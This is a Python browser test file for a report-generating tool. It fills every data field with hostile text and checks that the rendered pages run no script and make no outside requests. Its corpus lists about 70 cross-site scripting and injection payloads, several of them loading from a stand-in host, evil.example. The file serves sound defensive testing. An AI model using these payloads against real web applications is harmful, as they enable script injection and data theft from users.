"""Hostile text in every field executes nothing, in any edition: opened in a real browser."""

import json

import geopandas as gpd
import pandas as pd
import pytest
import shapely

from lagesbild import config, periods
from lagesbild.ingest.run import ingest
from lagesbild.report.audit import check
from lagesbild.report.run import RunOptions, run_report

pytestmark = pytest.mark.browser

RUN = "window.pwned=1"
CORPUS = [
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"<!--<script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script >{RUN}</script >",
    f"<script/x>{RUN}</script>",
    f"<<script>{RUN}//<</script>",
    f"<script type=module>{RUN}</script>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,window.pwned=1></script>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'>",
    f'"><img src=x onerror="{RUN}">',
    f"'><img src=x onerror='{RUN}'>",
    f"<img/src=x/onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"</svg><img src=x onerror={RUN}>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<iframe src='javascript:parent.{RUN}'>",
    f"<object data='javascript:{RUN}'>",
    f"<embed src='javascript:{RUN}'>",
    f"<a href='javascript:{RUN}'>x</a>",
    f"<a href=' &#106;avascript:{RUN}'>x</a>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video src=x onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<form action='javascript:{RUN}'><input type=submit></form>",
    f"<button formaction='javascript:{RUN}'>x</button>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(//evil.example/x.png)}</style>",
    "<img src=//evil.example/x.png>",
    "<p style='background:url(//evil.example/x.png)'>x",
    f"x' onmouseover='{RUN}' autofocus onfocus='{RUN}",
    f'x" onmouseover="{RUN}" autofocus onfocus="{RUN}',
    f"x` onmouseover=`{RUN}`",
    f"';{RUN};//",
    f'";{RUN};//',
    f"\\';{RUN};//",
    f"`${{{RUN}}}`",
    f"${{{RUN}}}",
    f"{{{{{RUN}}}}}",
    "{{ 7*7 }}{% for x in y %}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"[x](javascript:{RUN})",
    f"![x](x){{onerror={RUN}}}",
    "[x]: //evil.example",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\u2028{RUN}\u2029",
    f"\u202e<script>{RUN}</script>",
    '=HYPERLINK("//evil.example")',
    "$$x^2$$ \\(y\\)",
]
SETTINGS = """
[area]
name = NAME
boundary = { file = "data/raw/boundary.geojson" }
districts = { file = "data/raw/districts.geojson", code = "kod", name = "namn" }
basemap = [{ kind = "place", file = "data/raw/places.geojson", name = "namn" }]

[editions.arbetsgrupp]
texts = ["description"]

[[sources]]
name = "embrace"
title = NAME
files = "data/raw/*.csv"
crs = "EPSG:3006"
datetime_formats = ["%Y-%m-%d %H:%M"]
columns = { id = "Nr", occurred_from = "Från", reported_at = "Från", category = "Kategori", subcategory = "Sort", description = "Text", organisation = "Organisation", place = "Plats", x = "Öst", y = "Nord" }

[[categories]]
name = NAME
values = ["ett"]
[[categories]]
name = OTHER

[rules]
stop_above = { quarantined = 1.0, unknown_category = 1.0 }

[[reports]]
name = "lagesbild"
title = NAME
notebooks = [
    { notebook = "oversikt", step = "kartlaggning" },
    { notebook = "karta", step = "kartlaggning" },
    { notebook = "datakvalitet", step = "underlag" },
    { notebook = "beskrivningar", step = "kartlaggning" },
]
[[reports]]
name = "rad"
title = NAME
edition = "rad"
period = "fortnight"
notebooks = [{ notebook = "delad_oversikt", step = "kartlaggning" }, { notebook = "delad_karta", step = "kartlaggning" }]
[[reports]]
name = "oppen"
title = NAME
edition = "oppen"
period = "fortnight"
notebooks = [{ notebook = "delad_oversikt", step = "kartlaggning" }]
"""


@pytest.fixture(scope="module")
def workspace(tmp_path_factory):
    """A workspace in which every text is hostile: the exports', the settings' and the geography's."""
    root = tmp_path_factory.mktemp("fientlig")
    raw = root / "data" / "raw"
    raw.mkdir(parents=True)
    boxes = [
        shapely.box(780_000 + 2_000 * at, 6_785_000, 782_000 + 2_000 * at, 6_795_000)
        for at in range(len(CORPUS))
    ]
    gpd.GeoDataFrame(
        geometry=[shapely.box(780_000, 6_785_000, 782_000 + 2_000 * len(CORPUS), 6_795_000)], crs="EPSG:3006"
    ).to_file(raw / "boundary.geojson")
    gpd.GeoDataFrame(
        {"kod": CORPUS[::10], "namn": CORPUS[::10]}, geometry=boxes[::10], crs="EPSG:3006"
    ).to_file(raw / "districts.geojson")
    gpd.GeoDataFrame({"namn": CORPUS}, geometry=[each.centroid for each in boxes], crs="EPSG:3006").to_file(
        raw / "places.geojson"
    )
    texts = CORPUS * 2
    frame = pd.DataFrame({"Nr": [f"{number} {text}" for number, text in enumerate(texts)]})
    frame["Från"] = "2026-11-04 13:30"
    frame["Kategori"] = ["ett", *texts[1:]]
    for column in ("Sort", "Text", "Organisation", "Plats"):
        frame[column] = texts
    frame["Öst"], frame["Nord"] = (
        [boxes[at % len(CORPUS)].centroid.x + at for at in range(len(texts))],
        6_790_000,
    )
    frame.to_csv(raw / "export_2026-11-16.csv", sep=";", index=False)
    settings = SETTINGS.replace("NAME", json.dumps(CORPUS[0])).replace("OTHER", json.dumps(CORPUS[15]))
    (root / "lagesbild.toml").write_text(settings, encoding="utf-8")
    project = config.load(root)
    return project, ingest(project).accounting


def test_the_corpus_is_large_enough():
    """At least 60 hostile strings, each another."""
    assert len(set(CORPUS)) >= 60


@pytest.mark.parametrize("scheme", ["light", pytest.param("dark", marks=pytest.mark.sweep)])
@pytest.mark.parametrize("name", ["lagesbild", "rad", pytest.param("oppen", marks=pytest.mark.sweep)])
def test_nothing_hostile_runs(workspace, name, scheme, chromium, violations, *, monkeypatch, zygote):
    """The page runs nothing of it, asks for nothing, breaks no policy, says nothing in the console and is accessible."""
    # The same texts stand on the map and in the reports: that one of them is a secret is another test's matter.
    monkeypatch.setattr(check.Gate, "leaks", lambda *_: [])
    project, accounting = workspace
    period = periods.parse(
        "2026-11-02..2026-11-15", calendar=project.calendar.calendar(), today=periods.date(2026, 11, 23)
    )
    zygote.prepare(project.root)
    page = run_report(
        project, project.report(name), period, accounting=accounting, manner=RunOptions(zygote=zygote)
    )
    context = chromium.new_context()
    context.add_init_script(
        "window.broken = []; addEventListener('securitypolicyviolation', e => broken.push(e.violatedDirective));"
    )
    tab = context.new_page()
    asked, said = [], []
    tab.on("request", lambda request: asked.append(request.url))
    tab.on("console", lambda message: said.append(message.text))
    tab.on("pageerror", lambda error: said.append(str(error)))
    tab.on("dialog", lambda dialog: said.append(dialog.message))
    tab.goto(page.as_uri())
    tab.wait_for_timeout(500)
    # What is only written when it is pointed at: every mark on every map is pressed.
    tab.evaluate(
        "document.querySelectorAll('.leaflet-interactive, .leaflet-marker-icon').forEach(e => e.dispatchEvent(new MouseEvent('click', {bubbles: true})))"
    )
    tab.evaluate("document.querySelectorAll('details').forEach(e => { e.open = true; })")
    tab.wait_for_timeout(300)
    ran, broken = tab.evaluate("[window.pwned, window.broken]")
    context.close()
    assert (None, []) == (ran, broken)
    assert ([page.as_uri()], []) == (asked, said)
    # In dark only colours differ.
    kind, rules = {
        "light": ("tag", ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa"]),
        "dark": ("rule", ["color-contrast"]),
    }[scheme]
    context = chromium.new_context(color_scheme=scheme, bypass_csp=True)
    tab = context.new_page()
    tab.goto(page.as_uri())
    found = violations(tab, *rules, kind=kind)
    context.close()
    assert [] == [(each["id"], node["html"][:150]) for each in found for node in each["nodes"]]
